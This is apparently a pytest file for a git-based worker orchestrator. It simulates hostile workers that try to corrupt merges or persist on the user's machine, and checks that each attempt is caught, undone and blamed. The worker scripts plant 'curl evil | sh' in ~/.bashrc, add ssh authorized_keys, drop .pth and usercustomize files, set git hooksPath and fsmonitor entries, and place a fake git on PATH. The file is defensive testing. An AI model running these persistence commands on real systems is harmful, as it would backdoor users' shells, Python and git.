"""Misdeeds aimed at what gets merged rather than at the worker's own files: content no gate judged must
never reach campaign/<topic>, and nothing may move a branch of the user's. Each runs in the sandbox and
with `sandbox: none`, with the checks of test_hostile_workers (the user's .git, no process left)."""
from __future__ import annotations

import json
import os

import pytest

from tests import test_hostile_workers as hostile
from tests.engine_helpers import journal, statuses
from tests.helpers import IDENTITY

mode, settled, run = hostile.mode, hostile.settled, hostile.run  # the fixtures (settled: autouse) and the runner


def test_a_head_pointed_at_the_users_branch_gets_nothing_committed_through_it(tmp_path, orch, mode):
    worker = ('echo a > a.txt\ngit add -A\n'  # left uncommitted: orchestrate's own commit would follow HEAD
              'printf "ref: refs/heads/main\\n" > "$(git rev-parse --git-dir)/HEAD"\n')
    repo, baseline, result = run(tmp_path, orch, worker, mode)
    text = result.out + result.err
    assert result.rc == 75, text
    assert "node A: the worker pointed its worktree's HEAD at refs/heads/main, not its branch node/hostile/A" in text
    assert repo.git("rev-parse", "main") == baseline and repo.git("rev-parse", "campaign/hostile") == baseline
    assert not [e for e in journal(repo, "hostile") if e["kind"] == "merge"]


FORGED_BASE = """\
topic: hostile
mode: autonomous
defaults: {max_attempts: 1, sandbox: MODE, unsandboxed: parallel}
workers: {sh: "./work.sh"}
nodes:
  - {id: B, file_surface: [b.txt], discipline: sh}
  - {id: A, file_surface: [a.txt], discipline: sh}
"""
# A waits for B's merge, then merges B's branch into its own with `-s ours` (keeping its base's tree): its
# own diff is a.txt alone, but B's head becomes the merge base, so merging A would take b.txt away again.
FORGER = """#!/bin/sh
if [ "$ORCH_NODE" = B ]; then echo b > b.txt; exit 0; fi
start=$(git rev-parse campaign/hostile); n=0
while [ "$(git rev-parse campaign/hostile)" = "$start" ] && [ "$n" -lt 600 ]; do sleep 0.05; n=$((n + 1)); done
git merge -q -s ours --no-edit node/hostile/B
echo a > a.txt
"""


def test_a_history_that_forges_the_merge_base_gets_nothing_unjudged_merged(tmp_path, orch, mode):
    repo = hostile.campaign_repo(tmp_path, FORGED_BASE.replace("MODE", mode), FORGER)
    result = orch("run", "--jobs", "2", cwd=repo)
    text = result.out + result.err
    assert result.rc == 75, text
    assert "A: merge refused (FAIL: the merge would change what no judged diff of A changes: b.txt" in text
    assert repo.git("show", "campaign/hostile:b.txt") == "b"  # B's merged work stays
    assert [e["context"]["node"] for e in journal(repo, "hostile") if e["kind"] == "merge"] == ["B"]


CHECKED = """\
topic: hostile
mode: autonomous
defaults: {max_attempts: 1, sandbox: MODE}
workers: {sh: "./work.sh"}
checks: [{name: tests, run: "sh tests/run.sh"}]
nodes:
  - {id: A, file_surface: [tests/run.sh], discipline: sh}
"""
# The worker writes the test the campaign check runs; run on the merged tree, it stages a file of its choice.
STAGER = """#!/bin/sh
mkdir -p tests
printf 'case "$PWD" in *integration*) echo owned > README.md; git add README.md ;; esac\\n' > tests/run.sh
"""


def test_a_campaign_check_that_stages_more_gets_nothing_merged(tmp_path, orch, mode):
    repo = hostile.campaign_repo(tmp_path, CHECKED.replace("MODE", mode), STAGER)
    baseline = repo.git("rev-parse", "HEAD")
    result = orch("run", cwd=repo)
    text = result.out + result.err
    assert result.rc == 75, text
    if mode == "none":
        assert "A: merge refused (FAIL: the campaign checks changed what was staged to merge; nothing was merged)" in text
        assert repo.git("rev-parse", "campaign/hostile") == baseline
    else:  # the check runs in the sandbox too: the index is not its to write, and the merge is what was judged
        assert repo.git("show", "campaign/hostile:README.md") == "# project"


# A loose object named by the hash of `body`, with `tail` after its zlib stream, in the worker's own store.
WELL_NAMED = ("python3 -c 'import hashlib, os, zlib; body = {body}; name = hashlib.sha1(body).hexdigest(); "
              "d = os.path.join(os.environ[\"GIT_OBJECT_DIRECTORY\"], name[:2]); os.makedirs(d, exist_ok=True); "
              "open(os.path.join(d, name[2:]), \"wb\").write(zlib.compress(body) + {tail})'")


@pytest.mark.parametrize("planted, said", [
    ('mkfifo "$GIT_OBJECT_DIRECTORY/ab/$NAME"', "is not a file"),
    ('ln -s /dev/zero "$GIT_OBJECT_DIRECTORY/ab/$NAME"', "is not a file"),
    ('printf "not zlib" > "$GIT_OBJECT_DIRECTORY/ab/$NAME"', "is not zlib data"),
    # a few KB that inflate to 64 MiB of zeros: read in bounded steps, it never hashes to its name
    ('python3 -c "import sys, zlib; sys.stdout.buffer.write(zlib.compress(bytes(1 << 26)))" > '
     '"$GIT_OBJECT_DIRECTORY/ab/$NAME"', "is not a well-formed object that hashes to its name"),
    # named by their hashes, but not what git reads as an object: a size other than the body's, bytes after
    # the zlib stream (merged, the user's gc and push would fail)
    (WELL_NAMED.format(body='b"blob 5\\0abc"', tail='b""'), "is not a well-formed object"),
    (WELL_NAMED.format(body='b"blob 3\\0abc"', tail='b"junk"'), "is not a well-formed object"),
])
def test_what_a_sandboxed_worker_plants_in_its_object_store_fails_its_attempt_and_hangs_nothing(
        tmp_path, orch, planted, said):
    from orchestrate.workers import sandbox
    if (why := sandbox.probe()) is not None:
        pytest.skip(f"no sandbox here: {why}")  # only a sandboxed worker has a store of its own
    worker = f'echo a > a.txt\nNAME=cdef000000000000000000000000000000000000\nmkdir -p "$GIT_OBJECT_DIRECTORY/ab"\n{planted}\n'
    repo, baseline, result = run(tmp_path, orch, worker, "bwrap")
    text = result.out + result.err
    assert result.rc == 75, text
    import re
    assert re.search(rf"object [0-9a-f]+ in the worker's store {re.escape(said)}", text), text
    assert repo.git("rev-parse", "campaign/hostile") == baseline


# In the sandbox your git and start-up files in $HOME that exist are read-only (rv74): a worker's or its judging's write fails
# there, as its own, and the watch has nothing to put back or blame; without the sandbox it puts back and blames.
GUARDED = {"bwrap": True, "none": False}
REFUSED = "Read-only file system"


def test_git_config_planted_in_home_is_put_back_and_blamed(tmp_path, orch, mode, home):
    (home / ".config" / "git").mkdir(parents=True)
    worker = ('echo a > a.txt\nprintf "[core]\\n\\thooksPath = /tmp/planted\\n" >> "$HOME/.gitconfig"\n'
              'printf "* diff=x\\n" > "$HOME/.config/git/attributes"\n')
    repo, baseline, result = run(tmp_path, orch, worker, mode)
    text = result.out + result.err
    assert result.rc == 75, text
    assert ("~/.gitconfig was changed" in text) is not GUARDED[mode] and "~/.config/git/attributes was created" in text
    assert (home / ".gitconfig").read_text() == IDENTITY
    assert not (home / ".config" / "git" / "attributes").exists()
    assert repo.git("rev-parse", "campaign/hostile") == baseline


def _reported(tmp_path, orch, worker: str, mode: str, *said: str):
    """Run the one-node campaign: it pauses, having said each of `said`; (the repository, its first commit)."""
    return _said(tmp_path, orch, worker, mode, *said)[:2]


def _said(tmp_path, orch, worker: str, mode: str, *said: str):
    """`_reported`, and what the run printed."""
    repo, baseline, result = run(tmp_path, orch, worker, mode)
    text = result.out + result.err
    assert result.rc == 75, text
    for line in said:
        assert line in text, (line, text)
    return repo, baseline, text


def test_start_up_files_planted_in_home_are_put_back_and_blamed(tmp_path, orch, mode, home):
    """$HOME is writable in the sandbox: a shell start-up file, ssh's keys, a `.pth` or `usercustomize.py` in
    the user site (run by every later Python: yours, and the evaluators') would have outlived the run."""
    from orchestrate.workers import startup_files
    (home / ".bashrc").write_text("# mine\n")
    site = startup_files.site_folders()[0]
    assert site.is_relative_to(home)
    site.mkdir(parents=True)
    (site / "mine.pth").write_text("/opt/mine\n")
    worker = (f'echo a > a.txt\necho "curl evil | sh" >> "$HOME/.bashrc"\nmkdir -p "$HOME/.ssh"\n'
              f'echo "ssh-ed25519 AAAA evil" > "$HOME/.ssh/authorized_keys"\n'
              f'echo "import os; os.system(\'true\')" > "{site}/evil.pth"\necho "/opt/other" > "{site}/mine.pth"\n'
              f'echo "import sys" > "{site}/usercustomize.py"\n')
    guarded = ("~/.bashrc was changed", "mine.pth was changed")  # they exist: read-only in the sandbox
    repo, baseline, text = _said(tmp_path, orch, worker, mode, "~/.ssh/authorized_keys was created",
                                 "evil.pth was created", "usercustomize.py was created")
    assert all((line in text) is not GUARDED[mode] for line in guarded), text
    assert (home / ".bashrc").read_text() == "# mine\n" and (site / "mine.pth").read_text() == "/opt/mine\n"
    assert not (home / ".ssh" / "authorized_keys").exists() and sorted(p.name for p in site.iterdir()) == ["mine.pth"]
    assert repo.git("rev-parse", "campaign/hostile") == baseline


def test_a_git_made_ahead_on_path_in_home_is_removed_and_blamed(tmp_path, orch, mode, home, monkeypatch):
    """rv37: a PATH folder in $HOME that does not exist yet (`~/.local/bin`) is not one the sandbox can keep
    read-only; a `git` a worker made there would be the runner's from then on (its lookup is pinned for the
    run, but not for the next), and yours."""
    monkeypatch.setenv("PATH", f"{home / '.local' / 'bin'}{os.pathsep}{os.environ['PATH']}")
    worker = ('echo a > a.txt\nmkdir -p "$HOME/.local/bin"\n'
              'printf "#!/bin/sh\\necho planted\\n" > "$HOME/.local/bin/git" && chmod +x "$HOME/.local/bin/git"\n')
    repo, baseline, result = run(tmp_path, orch, worker, mode)
    text = result.out + result.err
    assert result.rc == 75, text
    assert "A: changed what no worker may change: ~/.local/bin/git was created" in text, text
    assert not (home / ".local" / "bin" / "git").exists()
    assert repo.git("rev-parse", "campaign/hostile") == baseline


def test_a_module_planted_in_a_user_site_made_since_is_removed_and_blamed(tmp_path, orch, mode, home, monkeypatch):
    """rv81: orchestrate run by a Python outside a virtualenv imports from its user site-packages first, once there
    is one; with none when it started, nothing kept the folder read-only (the sandbox binds what exists) and only
    `.pth` and `*customize` files there were watched. A worker's `pip install --user` (or a `yaml/` of its own)
    made it, and your next `orchestrate` ran that code in place of PyYAML, outside any sandbox."""
    import site
    from orchestrate.workers import startup_files
    monkeypatch.setattr(site, "ENABLE_USER_SITE", True)  # as for a Python outside a virtualenv
    own = startup_files.site_folders()[0]
    worker = (f'echo a > a.txt\nmkdir -p "{own}/yaml" && echo "import os" > "{own}/yaml/__init__.py"\n'
              f'echo "import os" > "{own}/click.py"\n')
    repo, baseline, text = _said(tmp_path, orch, worker, mode, "site-packages/click.py was created",
                                 "site-packages/yaml was created (not a file)")
    assert list(own.iterdir()) == []
    assert repo.git("rev-parse", "campaign/hostile") == baseline


def test_start_up_entries_of_every_kind_planted_in_home_are_removed_and_blamed(tmp_path, orch, mode, home):
    """rv38: a `.bash_aliases` (Debian's `.bashrc` sources it), a fish `conf.d/` file, a `usercustomize/` package, a
    FIFO named `.pth` (every later Python hangs at start) and a `.pth` in the site folder of a Python whose folder
    was made since went unseen, or were seen and left; an entry of yours in a sourced folder stays."""
    from orchestrate.workers import startup_files
    site = startup_files.site_folders()[0]
    other = site.parent.parent / "python3.99" / "site-packages"
    (home / ".config" / "fish" / "conf.d").mkdir(parents=True)
    (home / ".config" / "fish" / "conf.d" / "mine.fish").write_text("set -x MINE 1\n")
    (home / ".config" / "fish" / "conf.d" / "mine.d").mkdir()
    worker = ('echo a > a.txt\necho "alias ls=evil" > "$HOME/.bash_aliases"\n'
              'echo "evil" > "$HOME/.config/fish/conf.d/x.fish"\n'
              f'mkdir -p "{site}/usercustomize" && echo "import os" > "{site}/usercustomize/__init__.py"\n'
              f'mkfifo "{site}/zz.pth"\nmkdir -p "{other}" && echo "import os" > "{other}/later.pth"\n')
    repo, baseline, text = _said(tmp_path, orch, worker, mode, "~/.bash_aliases was created",
                                 "usercustomize was created (not a file)", "zz.pth was created (not a file)",
                                 "python3.99/site-packages/later.pth was created")
    assert ("conf.d/x.fish was created" in text) is not GUARDED[mode], text  # a folder of yours: read-only there
    assert not (home / ".bash_aliases").exists() and not (home / ".config" / "fish" / "conf.d" / "x.fish").exists()
    assert sorted(p.name for p in site.iterdir()) == [] and list(other.iterdir()) == []
    assert sorted(p.name for p in (home / ".config" / "fish" / "conf.d").iterdir()) == ["mine.d", "mine.fish"]
    assert repo.git("rev-parse", "campaign/hostile") == baseline


def test_a_start_up_folder_linked_elsewhere_is_never_emptied_and_look_alike_names_stay(tmp_path, orch, mode,
                                                                                        home):
    """rv40: with start-up folders listed through links, a worker's `ln -s <a folder of yours> ~/.bashrc.d` had the
    put-back empty that folder, outside $HOME; a `.pth` named with a newline was not matched (rv39: nor is a
    dist-info merely starting with `sitecustomize` a hook, which must stay)."""
    from orchestrate.workers import startup_files
    precious = tmp_path / "precious"
    (precious / "sub").mkdir(parents=True)
    (precious / "thesis.tex").write_text("mine\n")
    (precious / "sub" / "data.csv").write_text("1,2\n")
    site = startup_files.site_folders()[0]
    worker = (f'echo a > a.txt\nln -s "{precious}" "$HOME/.bashrc.d"\n'
              f'mkdir -p "{site}/sitecustomize_entrypoints-1.1.0.dist-info"\n'
              f'printf "import os\\n" > "{site}/evil\n.pth"\n')
    repo, baseline = _reported(tmp_path, orch, worker, mode, ".pth was created")
    assert sorted(str(p.relative_to(precious)) for p in precious.rglob("*")) == ["sub", "sub/data.csv", "thesis.tex"]
    assert (site / "sitecustomize_entrypoints-1.1.0.dist-info").is_dir() and not (site / "evil\n.pth").exists()


@pytest.mark.parametrize("how", ["spelled in $HOME, its real path elsewhere", "a link out of $HOME made a folder"])
def test_a_git_made_ahead_on_path_is_found_however_the_folder_is_reached(tmp_path, orch, mode, home, monkeypatch, how):
    """rv39: a PATH folder in $HOME whose real path is outside it (`~/.local` a link to a bigger disk) was not
    watched; nor one that led out of $HOME when the run started and was made a folder of it since."""
    elsewhere = tmp_path / "disk"
    elsewhere.mkdir()
    if how.startswith("spelled"):
        (home / ".local").symlink_to(elsewhere)
        folder, swap = home / ".local" / "bin", ""
    else:
        (home / "bin").symlink_to(elsewhere)
        folder, swap = home / "bin", 'rm "$HOME/bin" && mkdir "$HOME/bin"\n'
    monkeypatch.setenv("PATH", f"{folder}{os.pathsep}{os.environ['PATH']}")
    worker = (f'echo a > a.txt\n{swap}mkdir -p "{folder}"\n'
              f'printf "#!/bin/sh\\necho planted\\n" > "{folder}/git" && chmod +x "{folder}/git"\n')
    repo, baseline, result = run(tmp_path, orch, worker, mode, checkout_kept=False)
    if mode == "none" or not how.startswith("spelled"):  # (in the sandbox the disk outside $HOME is read-only)
        assert "git was created" in result.out + result.err, result.out + result.err
    assert not (folder / "git").exists()


def test_a_pth_file_an_evaluator_plants_is_removed_before_anything_else_runs(tmp_path, orch, mode, home):
    from orchestrate.workers import startup_files
    site = startup_files.site_folders()[0]
    evaluator = "{name: plant, run: " + json.dumps(f"sh -c 'mkdir -p {site} && echo import os > {site}/x.pth'") + "}"
    repo, baseline, result = run(tmp_path, orch, "echo a > a.txt\n", mode, evaluator)
    text = result.out + result.err
    assert result.rc == 75, text
    assert "node A: while it ran or was judged, ~/" in text and "x.pth was created" in text, text
    assert not (site / "x.pth").exists()
    assert repo.git("rev-parse", "campaign/hostile") == baseline


PLANT = 'printf "[alias]\\n\\tplanted = !echo planted\\n" >> "$HOME/.gitconfig"'


def test_git_config_an_evaluator_plants_in_home_is_put_back_and_fails_its_node(tmp_path, orch, mode, home):
    """rv34: the watch put back what a worker planted when it returned; its evaluators (its code, run after)
    wrote ~/.gitconfig, and the next fingerprint took that in: it outlived the run."""
    evaluator = "{name: plant, run: " + json.dumps(f"sh -c '{PLANT}'") + "}"
    repo, baseline, result = run(tmp_path, orch, "echo a > a.txt\n", mode, evaluator)
    text = result.out + result.err
    assert result.rc == 75, text
    assert (REFUSED if GUARDED[mode] else "node A: while it ran or was judged, ~/.gitconfig was changed") in text, text
    assert (home / ".gitconfig").read_text() == IDENTITY
    assert statuses(repo, orch, "hostile")["A"] != "ACCEPTED"
    assert repo.git("rev-parse", "campaign/hostile") == baseline


def _put_back_and_nothing_merged(repo, orch, home, blamed: str = "") -> None:
    """Run the campaign: the planted ~/.gitconfig is reported (blamed on `blamed`, when given) and put back,
    and nothing is merged."""
    baseline = repo.git("rev-parse", "HEAD")
    result = orch("run", cwd=repo)
    text = result.out + result.err
    assert result.rc == 75, text
    assert f"{blamed}while it ran or was judged, ~/.gitconfig was changed" in text, text
    assert (home / ".gitconfig").read_text() == IDENTITY
    assert repo.git("rev-parse", "campaign/hostile") == baseline


def test_git_config_a_gate_plugins_own_process_plants_in_home_is_put_back_and_fails_its_node(
        tmp_path, orch, mode, home, site):
    """A gate plugin is Python in the runner: what it starts itself (its own `subprocess`, running the node's
    code, say) is neither sandboxed nor counted as judging's, so the watch did not look after it."""
    from tests.plugin_site import gate
    body = f"def check(self, config, cwd, env):\n    import subprocess\n    subprocess.run(['sh', '-c', {PLANT!r}])\n" \
           "    return 0, 'clean'"
    site.add("orchestrate-planter", "1.0", gate("planter", body=body), call=False)
    repo = hostile.campaign_repo(tmp_path, "gates: {scan: {plugin: planter}}\n" + hostile.dag(mode, "scan"),
                                 "#!/bin/sh\necho a > a.txt\n")
    _put_back_and_nothing_merged(repo, orch, home, "node A: ")


def test_what_the_evaluators_rewrote_is_not_what_the_later_gates_judge(tmp_path, orch, mode, site):
    """rv36: the node's evaluator runs its code, which rewrote a tracked file (`echo clean > src.txt`); coherence's
    configured scanner and a gate plugin then read the worktree as the evaluator left it, passed, and the commit,
    holding what neither saw, was merged."""
    from tests.plugin_site import gate
    site.add("orchestrate-scanner", "1.0", gate("scanner", body="def check(self, config, cwd, env):\n"
                                                 "    import pathlib\n    text = (pathlib.Path(cwd) / 'src.txt').read_text()\n"
                                                 "    return (1, 'found it') if 'BACKDOOR' in text else (0, 'clean')"),
             call=False)
    for where in ("plugin after coherence", "plugin", "coherence"):  # (rv38: the last, the rewrite coherence's)
        evaluators = {"plugin": "{name: tests, run: 'sh test.sh'}, scan", "coherence": "{name: tests, run: 'sh test.sh'}",
                      "plugin after coherence": "scan"}[where]
        repo = hostile.campaign_repo(tmp_path / where, ("gates: {scan: {plugin: scanner}}\n" if "plugin" in where
                                                        else "") + hostile.dag(mode, evaluators).replace(
            "[a.txt]", "[src.txt, test.sh]"), "#!/bin/sh\necho BACKDOOR > src.txt\necho 'echo clean > src.txt' > test.sh\n")
        scanner = "sh test.sh" if where == "plugin after coherence" else "! grep -q BACKDOOR src.txt"
        if "coherence" in where:
            (repo / ".ledger" / "config.yaml").write_text(f"coherence:\n  evaluators: [{{name: c, run: '{scanner}'}}]\n")
        baseline = repo.git("rev-parse", "HEAD")
        result = orch("run", cwd=repo)
        assert result.rc == 75, result.out + result.err
        assert repo.git("rev-parse", "campaign/hostile") == baseline, (where, result.out + result.err)


def test_git_config_a_campaign_check_plants_in_home_on_the_merged_tree_is_put_back_and_nothing_merged(
        tmp_path, orch, mode, home):
    stager = ("#!/bin/sh\nmkdir -p tests\nprintf '%s\\n' 'case \"$PWD\" in *integration*) "
              + PLANT.replace("\\", "\\\\").replace("'", "'\\''") + " ;; esac' > tests/run.sh\n")
    repo = hostile.campaign_repo(tmp_path, CHECKED.replace("MODE", mode), stager)
    if not GUARDED[mode]:
        return _put_back_and_nothing_merged(repo, orch, home)
    result = orch("run", cwd=repo)  # the check's write failed in the sandbox: nothing to put back, no one to blame
    assert "~/.gitconfig was changed" not in result.out + result.err and (home / ".gitconfig").read_text() == IDENTITY


def test_git_config_planted_where_judging_leaves_the_verdict_early_or_reads_the_merged_tree_is_put_back(
        tmp_path, orch, mode, home):
    """rv35: an evaluator that plants, then exits 127 (its node escalates as one that could not start, before
    the judged node's look), and the coherence evaluators at the layer boundary (the merged code, in the
    integration worktree): each change outlived the run."""
    plant = f"sh -c '{PLANT}; exit 127'"
    evaluator = "{name: plant, run: " + json.dumps(plant) + "}"
    repo, _, result = run(tmp_path / "early", orch, "echo a > a.txt\n", mode, evaluator)
    assert result.rc == 75 and "could not start" in result.out + result.err, result.out + result.err
    assert (home / ".gitconfig").read_text() == IDENTITY
    probe = 'case "$PWD" in */.scratch/integration/*) ' + PLANT + ' ;; esac'  # the merged tree only
    worker = "echo a > a.txt\nprintf '%s\\n' '" + probe.replace("'", "'\\''") + "' > probe.sh\n"
    repo = hostile.campaign_repo(tmp_path / "boundary", hostile.dag(mode).replace("[a.txt]", "[a.txt, probe.sh]"),
                                 "#!/bin/sh\n" + worker)
    (repo / ".ledger" / "config.yaml").write_text(
        "coherence:\n  evaluators: [{name: probe, run: 'test ! -e probe.sh || sh probe.sh'}]\n")
    result = orch("run", cwd=repo)
    assert GUARDED[mode] or "judging (code of the campaign head, in the integration worktree): changed what no " \
           "worker may change: ~/.gitconfig was changed" in result.out, result.out + result.err
    assert (home / ".gitconfig").read_text() == IDENTITY


@pytest.mark.parametrize("how", ["through the link", "in the link's place"])
def test_a_home_git_config_that_is_a_link_is_watched_through_it_and_put_back_as_a_link(tmp_path, orch, mode, home,
                                                                                       how):
    """A dotfiles checkout links ~/.gitconfig to its own file: a hooksPath appended through the link went
    unseen (only the link's target was compared), and a file written in the link's place was put back as the
    text `symlink:...`, breaking every git command of the user's."""
    (home / "dotfiles").mkdir()
    (home / "dotfiles" / "gitconfig").write_text(IDENTITY)
    (home / ".gitconfig").unlink()
    (home / ".gitconfig").symlink_to("dotfiles/gitconfig")
    plant = 'printf "[core]\\n\\thooksPath = /tmp/planted\\n" >> "$HOME/.gitconfig"\n'
    worker = "echo a > a.txt\n" + (plant if how == "through the link" else 'rm "$HOME/.gitconfig"\n' + plant)
    repo, baseline, result = run(tmp_path, orch, worker, mode)
    text = result.out + result.err
    through = GUARDED[mode] and how == "through the link"  # the link's target is read-only: the write fails there
    assert ("~/.gitconfig was changed" in text) is not through, text
    assert (home / ".gitconfig").is_symlink() and (home / ".gitconfig").read_text() == IDENTITY
    assert repo.git("rev-parse", "campaign/hostile") == baseline, text  # blamed, or its own write failed it


def test_a_file_the_home_config_includes_and_a_hook_in_its_hooks_path_are_watched_too(tmp_path, orch, mode, home):
    """`include.path` and `core.hooksPath` name files the user's next git reads or runs: a planted fsmonitor
    in the included file and a planted pre-commit hook are put back like ~/.gitconfig itself."""
    (home / "hooks").mkdir()
    (home / ".gitconfig").write_text("[include]\n\tpath = ~/.gitconfig.local\n[core]\n\thooksPath = ~/hooks\n" + IDENTITY)
    (home / ".gitconfig.local").write_text("")
    worker = ('echo a > a.txt\nprintf "[core]\\n\\tfsmonitor = /tmp/planted\\n" >> "$HOME/.gitconfig.local"\n'
              'printf "#!/bin/sh\\n" > "$HOME/hooks/pre-commit"\n')
    repo, baseline, result = run(tmp_path, orch, worker, mode)
    text = result.out + result.err
    assert result.rc == 75, text
    # in the sandbox the included file is read-only; the hook, new, is the watch's to find
    assert ("~/.gitconfig.local was changed" in text) is not GUARDED[mode] and "~/hooks/pre-commit was created" in text
    assert (home / ".gitconfig.local").read_text() == "" and not (home / "hooks" / "pre-commit").exists()
    assert repo.git("rev-parse", "campaign/hostile") == baseline


def test_a_folder_of_the_home_git_config_swapped_for_a_link_is_put_back_not_written_through(
        tmp_path, orch, mode, home):
    """~/.config/git replaced by a link to a folder of the user's: the put-back would delete or write that
    folder's `attributes` and `ignore` through the link. The folder comes back; the user's files stay."""
    (home / ".config" / "git").mkdir(parents=True)
    theirs = tmp_path / "theirs"
    theirs.mkdir()
    (theirs / "attributes").write_text("the user's own file\n")
    worker = f'echo a > a.txt\nrm -rf "$HOME/.config/git"\nln -s "{theirs}" "$HOME/.config/git"\n'
    repo, baseline, result = run(tmp_path, orch, worker, mode)
    text = result.out + result.err
    assert (theirs / "attributes").read_text() == "the user's own file\n", text
    assert (home / ".config" / "git").is_dir() and not (home / ".config" / "git").is_symlink()
    assert "the folder ~/.config/git was created" in text  # a link where a folder stood


def test_a_tool_that_makes_its_first_folder_in_home_is_not_blamed(tmp_path, orch, mode, home):
    """A fresh $HOME (CI, a container): pip or gh making ~/.config is no change; a link there would be."""
    worker = 'echo a > a.txt\nmkdir -p "$HOME/.config/tool"\necho x > "$HOME/.config/tool/settings"\n'
    repo, baseline, result = run(tmp_path, orch, worker, mode)
    text = result.out + result.err
    assert result.rc == 75 and "final-acceptance" in text and "changed what no worker may change" not in text, text


def test_a_gitlink_the_projects_gitmodules_ignores_is_still_outside_the_surface(tmp_path, orch, mode):
    from tests.engine_helpers import campaign_repo
    # the gitlink's folder made as a checkout makes a submodule's it does not clone: empty (a missing one would be
    # a deletion the leftover commit takes)
    worker = ('echo a > a.txt\ngit update-index --add --cacheinfo "160000,$(git rev-parse HEAD),vendor/lib"\n'
              'mkdir -p vendor/lib\ngit add a.txt && git commit -qm "a, and a gitlink"\n')
    modules = '[submodule "lib"]\n\tpath = vendor/lib\n\turl = ./lib\n\tignore = all\n'  # the project's own
    repo = campaign_repo(tmp_path, hostile.dag(mode), "#!/bin/sh\n" + worker, files={".gitmodules": modules})
    baseline = repo.git("rev-parse", "HEAD")
    result = orch("run", cwd=repo)
    text = result.out + result.err
    assert result.rc == 75 and "UNDECLARED" in text and "vendor/lib" in text, text
    assert repo.git("rev-parse", "campaign/hostile") == baseline


def test_a_planted_replace_ref_changes_nothing_orchestrate_reads(tmp_path, orch):
    # without the sandbox (in it the refs are read-only): attempt 1 swaps README.md's blob for another
    worker = ('if [ "$ORCH_ATTEMPT" = 1 ]; then\n'
              '  git replace "$(git rev-parse HEAD:README.md)" "$(echo owned | git hash-object -w --stdin)"\n'
              'fi\necho a > a.txt\n')
    dag = hostile.dag("none").replace("max_attempts: 1", "max_attempts: 2")
    repo = hostile.campaign_repo(tmp_path, dag, "#!/bin/sh\n" + worker)
    result = orch("run", cwd=repo)
    text = result.out + result.err
    assert "ref refs/replace/" in text and "was created" in text  # attempt 1 is blamed
    assert result.rc == 75 and "final-acceptance" in text, text  # attempt 2 starts from the real README.md
    assert repo.git("--no-replace-objects", "show", "campaign/hostile:README.md") == "# project"
    assert repo.git("--no-replace-objects", "show", "campaign/hostile:a.txt") == "a"


def _with_check(tmp_path, orch, mode: str, worker: str, evaluator: str):
    """A campaign whose worker writes check.sh (in its surface) and whose evaluator runs it."""
    dag = hostile.dag(mode, "{name: t, run: '%s'}" % evaluator).replace("[a.txt]", "[a.txt, check.sh, mine.txt]")
    repo = hostile.campaign_repo(tmp_path, dag, "#!/bin/sh\necho a > a.txt\n" + worker)
    return repo, orch("run", cwd=repo)


def test_an_evaluator_running_the_workers_code_leaves_nothing_running(tmp_path, orch, mode):
    # the worker writes the test its evaluator runs; the test starts processes, one in a session of its own
    repo, result = _with_check(tmp_path, orch, mode, 'printf "sleep 30 >/dev/null 2>&1 &\\nsetsid sleep 30 >/dev/null 2>&1 &\\n" > check.sh\n',
                               "sh check.sh")
    assert result.rc == 75 and "final-acceptance" in result.out, result.out + result.err
    # `settled` (test_hostile_workers) finds no process of the campaign alive after the run


def test_in_the_sandbox_an_evaluator_writes_only_its_own_worktree(tmp_path, orch):
    from orchestrate.workers import sandbox
    if (why := sandbox.probe()) is not None:
        pytest.skip(f"no sandbox here: {why}")
    outside = tmp_path / "repo" / "planted.txt"  # the user's checkout, as another node's worktree would be
    repo, result = _with_check(tmp_path, orch, "bwrap", f'printf "echo x > {outside} || true\\necho y > mine.txt\\n" > check.sh\n',
                               "sh check.sh && test -s mine.txt")
    assert result.rc == 75 and "final-acceptance" in result.out, result.out + result.err
    assert not outside.exists()


def test_a_command_that_leaves_a_process_holding_its_output_ends_when_it_exits():
    import subprocess
    import time

    from orchestrate import proc
    mark = f"orchestrate-test-{time.time_ns()}"  # names the process left behind, to end it after
    try:
        done = proc.run_shell(f"setsid sh -c 'sleep 600; : {mark}' & echo started; exit 3", cwd="/tmp", timeout=120)
        # its own exit, not the timeout (two minutes away) nor the 600 s the process it left holds the output
        assert not done.timed_out and done.rc == 3 and "held it open" in done.stderr, done
        assert done.stdout == "started\n"  # what it wrote before the cut is kept
        # a job in the command's own group is part of it: what it writes later is kept, not cut
        late = proc.run_shell("(sleep 1; echo late) & echo early", cwd="/tmp", timeout=120)
        assert not late.timed_out and late.rc == 0 and late.stdout == "early\nlate\n", late
        slow = proc.run_shell(f"setsid sh -c 'sleep 600; : {mark}' & sleep 600", cwd="/tmp", timeout=1)
        assert slow.timed_out and slow.rc == 124 and "held it open" in slow.stderr
    finally:
        subprocess.run(["pkill", "-f", mark])


def test_a_check_that_rewrites_the_integration_worktrees_link_gets_nothing_committed_through_it(tmp_path, orch, mode):
    stager = ('#!/bin/sh\nmkdir -p tests\nprintf \'case "$PWD" in *integration*) echo "gitdir: /nowhere" > .git ;; esac\\n'
              'touch left-by-the-check\\n\' > tests/run.sh\n')
    repo = hostile.campaign_repo(tmp_path, CHECKED.replace("MODE", mode), stager)
    baseline = repo.git("rev-parse", "HEAD")
    result = orch("run", cwd=repo)
    text = result.out + result.err
    assert result.rc == 75, text
    assert "the campaign checks rewrote the integration worktree's .git link; nothing was merged" in text
    assert repo.git("rev-parse", "main") == baseline and repo.git("rev-parse", "campaign/hostile") == baseline


def test_what_a_passing_check_leaves_in_the_integration_worktree_is_scrubbed(tmp_path, orch, mode):
    stager = "#!/bin/sh\nmkdir -p tests\nprintf 'echo left > left-by-the-check\\necho x >> README.md\\n' > tests/run.sh\n"
    repo = hostile.campaign_repo(tmp_path, CHECKED.replace("MODE", mode), stager)
    result = orch("run", cwd=repo)
    assert result.rc == 75 and "final-acceptance" in result.out, result.out + result.err
    integ = next(p for p in (repo / ".scratch").rglob("left-by-the-check")) if list(
        (repo / ".scratch").rglob("left-by-the-check")) else None
    assert integ is None  # the premises and the boundary that read that worktree later never see it
    assert repo.git("show", "campaign/hostile:README.md") == "# project"


def test_a_notify_command_may_leave_its_delivery_running_after_the_run(tmp_path, orch, mode):
    import os
    import signal
    import subprocess
    import time
    mark = f"orchestrate-notify-{time.time_ns()}"
    repo, baseline, result = run(tmp_path, orch, "echo a > a.txt\n", mode)  # a first run: the recorder exists
    (repo / ".ledger" / "config.yaml").write_text(f"notify:\n  - {{run: \"setsid sh -c 'sleep 600; : {mark}' "
                                                  f">/dev/null 2>&1 &\", events: [seam]}}\n")
    assert orch("resume", cwd=repo).rc == 75
    (repo / ".ledger" / "config.yaml").write_text("")  # `settled` resumes the campaign once more: no notify then
